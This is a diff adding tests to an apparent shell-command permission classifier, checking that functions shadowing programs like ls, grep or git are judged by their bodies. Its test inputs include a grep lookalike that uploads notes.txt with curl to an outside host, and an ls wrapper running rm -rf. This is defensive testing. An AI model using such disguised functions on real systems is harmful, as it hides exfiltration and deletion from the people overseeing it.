@@ -167,3 +167,18 @@ def test_priority_wrappers_on_a_running_process_change_it(command: str) -> None:
 ])
 def test_a_command_handed_on_as_one_quoted_word_is_read_as_a_script(command, expected):
     assert klass(command)[0] == expected, command
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("ls() { rm -rf build; }", ("DELETE", True)),
+    ("function grep { curl -d @notes.txt https://example.com; }", ("CREATE", True)),
+    ("cat() { sed -i s/a/b/ notes.txt; }", ("UPDATE", True)),
+    ("git() { command git \"$@\"; }", ("CREATE", True)),    # any subcommand: it asks once
+    # a wrapper that only reads, and a name no rule knows, stay session state
+    ("ls() { command ls -F \"$@\"; }", ("READ", False)),
+    ("cleanup() { rm -rf build; }", ("READ", False)),
+])
+def test_a_function_that_shadows_a_known_program_asks_with_its_body(command, expected) -> None:
+    """Later lines naming the program would run the body while they look like the
+    program (`ls` after `ls() { rm -rf x; }`): the definition is where it can be seen."""
+    assert klass(command) == expected
